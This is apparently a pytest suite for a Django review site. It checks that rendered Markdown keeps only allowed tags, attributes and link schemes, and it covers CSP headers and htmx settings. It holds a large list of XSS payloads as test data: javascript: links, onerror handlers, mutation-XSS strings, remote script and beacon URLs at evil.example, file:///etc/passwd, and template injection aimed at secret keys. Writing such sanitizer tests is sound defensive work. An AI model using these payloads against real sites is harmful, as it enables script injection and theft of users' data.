"""X01 to X07 through Markdown: whatever an article holds, the desk draws text, our own tags and safe links alone."""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from selectolax.lexbor import LexborHTMLParser, LexborNode

from reviews import intake
from reviews.models import Pack
from tests import builders as made
from tests.core import builders as files
from tests.pages import entered

pytestmark = pytest.mark.django_db

TAGS = set(
    "a aside blockquote br code del div em h3 h4 h5 h6 hr li ol p pre span strong sup table tbody td th thead tr ul".split()
)
ATTRIBUTES = set(
    "class data-s data-e data-name data-address data-checked data-align href rel start tabindex title".split()
)

X02_LINKS = """
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](  javascript:alert(1) )
[x](<javascript:alert(1)>)
[x](java&#x0A;script:alert(1))
[x](java&Tab;script:alert(1))
[x](&#106;&#97;vascript:alert(1))
[x](javascript&colon;alert(1))
[x](\\javascript:alert(1))
[x](javascript:alert`1`)
[x](javascript://a.example/%0aalert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg)
[x](data:image/svg+xml,<svg/onload=alert(1)>)
[x](vbscript:msgbox(1))
[x](view-source:https://a.example)
[x](blob:https://a.example/x)
[x](file:///etc/passwd)
[x](ftp://a.example/)
[x](//a.example/)
[x](/packs/x/chips/y/publish/)
[x](?next=//a.example)
[x](#decide)
[x](https:a.example)
[x](https:/\\a.example)
[x](https://ok@a.example/)
[x](http://[::1)
[x](https://a.example/"onclick="alert(1))
[x](https://a.example "\\" onmouseover=alert(1) x=\\"")
[x](https://a.example '\\' onmouseover=alert(1)')
[x][r]
[r]
<javascript:alert(1)>
<data:text/html,x>
<vbscript:x>
<x@a.example?subject=y>
[![x](javascript:alert(1))](javascript:alert(2))
[x](mailto:a@b.example?body=x)
[x](\u202ehttps://a.example)
""".strip().splitlines()
X03_BEACONS = """
![x](https://evil.example/x.png?u=1)
![](https://evil.example/x.png)
![x](//evil.example/x.png)
![x](javascript:alert(1))
![x](data:image/svg+xml;base64,PHN2Zy8+)
![x][r]
<img src=https://evil.example/x.png>
<img src=x onerror=alert(1)>
<picture><source srcset=https://evil.example/x></picture>
<link rel=prefetch href=https://evil.example/x>
<link rel=stylesheet href=https://evil.example/x.css>
<style>@import url(https://evil.example/x.css)</style>
<p style="background:url(https://evil.example/x)">x</p>
<video poster=https://evil.example/x></video>
<base href=https://evil.example/>
<meta http-equiv=refresh content="0;url=https://evil.example/">
<form action=https://evil.example/><button>x</button></form>
""".strip().splitlines()
X01_X05_X07_TAGS = (
    """
<script>alert(1)</script>
<ScRiPt/src=//evil.example/x.js></ScRiPt>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<iframe srcdoc='<script>alert(1)</script>'></iframe>
<object data=//evil.example/x></object>
<embed src=//evil.example/x>
<details open ontoggle=alert(1)>x</details>
<a href=javascript:alert(1)>x</a>
</textarea><script>alert(1)</script>
</div></div><script>alert(1)</script>
</template><script>alert(1)</script>
"><script>alert(1)</script>
'"><img src=x onerror=alert(1)>
<div hx-get="/packs/" hx-trigger=load>x</div>
<div hx-on:click="alert(1)" data-hx-post=/x hx-vals='js:{x:alert(1)}'>x</div>
<div hx-swap-oob=true id=desk>x</div>
<div hx-boost=true hx-ext=x _="on click alert(1)" x-data x-on:click=alert(1)>x</div>
<b id=decide name=version class=act--publish data-key=a data-use-selection>x</b>
<button data-key=a formaction=/x>x</button>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<select><template><script>alert(1)</script></template></select>
<!--><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE html><script>alert(1)</script>
<custom-element onclick=alert(1)>x</custom-element>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
`<script>alert(1)</script>`
{{ settings.SECRET_KEY }} {% include "base.html" %} {0.__class__}
{% csrf_token %}{{ request.user.password }}
### x {onclick=alert(1) .act--publish #decide style=color:red}
[^<script>alert(1)</script>]
x[^a] \n\n[^a]: <script>alert(1)</script>
| <script>alert(1)</script> | x |\n|---|---|\n| <img src=x onerror=alert(1)> | y |
$<script>alert(1)</script>$
```html onload=alert(1)\n<script>alert(1)</script>\n```
    <script>alert(1)</script>
> <script>alert(1)</script>
- [x] <script>alert(1)</script>
---\ntitle: <script>alert(1)</script>\n---
x  \n<script>alert(1)</script>
\u2028<script>alert(1)</script>
<scr\u0000ipt>""".replace("\n<scr\u0000ipt>", "")
    .strip("\n")
    .splitlines()
)
PAYLOADS = [line.replace("\\n", "\n") for line in X02_LINKS + X03_BEACONS + X01_X05_X07_TAGS]


def loaded(payload: str, **changes: str) -> Pack:
    text = f"# Title\n\n## Lines {{#lines}}\n\nBefore it.\n\n{payload}\n\nAfter it.\n\n[r]: javascript:alert(1)\n"
    chips = [
        files.chip("what is in the article?", "Things that should not act on the page at all.", ["lines"])
    ]
    data = files.pack(text=text, chips=chips, thanks=None, **changes)
    return intake.load(files.raw(data), text.encode(), by=None).pack


def drawn(pack: Pack) -> LexborNode:
    """The section as a browser would build it."""
    answer = entered(made.reader()).get(f"/packs/{pack.slug}/desk/")
    assert answer.status_code == 200
    found = LexborHTMLParser(answer.content.decode()).css(".section__text")
    assert len(found) == 1
    return found[0]


def inside(section: LexborNode) -> list[LexborNode]:
    return [node for node in section.css("*") if node.mem_id != section.mem_id]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_draws_no_tag_attribute_or_address_but_ours(payload):
    section = drawn(loaded(payload))
    nodes = inside(section)
    assert {node.tag for node in nodes} - TAGS == set()
    assert {name for node in nodes for name in node.attributes} - ATTRIBUTES == set()
    addresses = [urlsplit(node.attributes["href"]) for node in nodes if "href" in node.attributes]
    assert [
        one for one in addresses if one.scheme not in ("http", "https", "mailto") or "@" in one.netloc
    ] == []
    assert ("Before it." in section.text(), "After it." in section.text()) == (True, True)


@pytest.mark.parametrize("payload", X03_BEACONS)
def test_x03_nothing_is_fetched_for_an_article(payload):
    section = drawn(loaded(payload))
    found = {name for node in inside(section) for name in node.attributes}
    assert found.isdisjoint({"src", "srcset", "poster", "style", "data", "action", "background"})


def test_x03_the_page_itself_lets_no_image_of_elsewhere_in():
    pack = loaded("![x](https://evil.example/x.png)")
    answer = entered(made.reader()).get(f"/packs/{pack.slug}/desk/")
    policy = dict(
        part.strip().partition(" ")[::2] for part in answer.headers["Content-Security-Policy"].split(";")
    )
    assert (policy["default-src"], policy["img-src"], policy["style-src"]) == ("'none'", "'self'", "'self'")


@pytest.mark.parametrize("payload", X01_X05_X07_TAGS[:30])
def test_x07_raw_html_is_shown_in_its_own_words(payload):
    shown = drawn(loaded(f"Words {payload} end.")).text()
    assert "".join(payload.split()) in "".join(shown.split())


def test_x05_what_an_article_holds_lies_where_htmx_does_nothing():
    pack = loaded("x")
    body = LexborHTMLParser(entered(made.reader()).get(f"/packs/{pack.slug}/desk/").content.decode())
    config = body.css_first("meta[name=htmx-config]").attributes["content"]
    assert "hx-disable" in body.css_first(".section__text").attributes
    assert all(
        f'"{name}":{value}' in config
        for name, value in [
            ("allowEval", "false"),
            ("allowScriptTags", "false"),
            ("selfRequestsOnly", "true"),
        ]
    )


@pytest.mark.parametrize(
    "text",
    ["{{ settings.SECRET_KEY }}", "{% include 'base.html' %}", "{0.__class__}", "%(x)s", "${x}", "#{x}"],
)
def test_x11_template_marks_are_shown_as_they_are(text):
    assert text in drawn(loaded(f"`{text}`")).text()


@pytest.mark.parametrize(
    "payload",
    [
        "</p></mark><script>alert(1)</script>",
        '" data-places="0-9" onfocus="alert(1)',
        "“<img src=x onerror=alert(1)>” 99",
        "`</mark>`",
    ],
)
def test_x01_marks_of_an_answer_let_nothing_out(payload):
    chips = [files.chip("what is in it?", f"It holds {payload}, Veritrail and 99 more.", ["lines"])]
    text = f"# T\n\n## Lines {{#lines}}\n\nIt holds {payload}.\n"
    data = files.pack(text=text, chips=chips, thanks=None)
    pack = intake.load(files.raw(data), text.encode(), by=None).pack
    page = LexborHTMLParser(entered(made.reader()).get(f"/packs/{pack.slug}/desk/").content.decode())
    answer = page.css_first(".chip__a")
    assert answer.text() == chips[0]["a"]
    assert {node.tag for node in answer.css("*")} == {"p", "mark"}
    assert {name for node in answer.css("mark") for name in node.attributes} <= {
        "tabindex", "data-kind", "data-places", "data-lacking", "data-held", "aria-describedby"
    }  # fmt: skip


def test_x09_no_page_carries_data_in_a_script():
    pack = loaded("</script><script>alert(1)</script>")
    page = LexborHTMLParser(entered(made.reader()).get(f"/packs/{pack.slug}/desk/").content.decode())
    assert [node.text() for node in page.css("script") if node.text().strip()] == []


@pytest.mark.parametrize("field", ["url", "md_url"])
@pytest.mark.parametrize(
    "address",
    ["javascript:alert(1)", "data:text/html,x", "//a.example/", "https://a.example/\n", "https:a.example"],
)
def test_x10_an_address_that_is_none_is_refused_at_load(field, address):
    data = files.pack(source={**files.source(files.article()), field: address})
    assert [fault.path for fault in intake.checked(files.raw(data)).faults] == [f"/source/{field}"]
    assert Pack.objects.count() == 0


def test_there_are_a_hundred_payloads():
    assert len(set(PAYLOADS)) >= 100
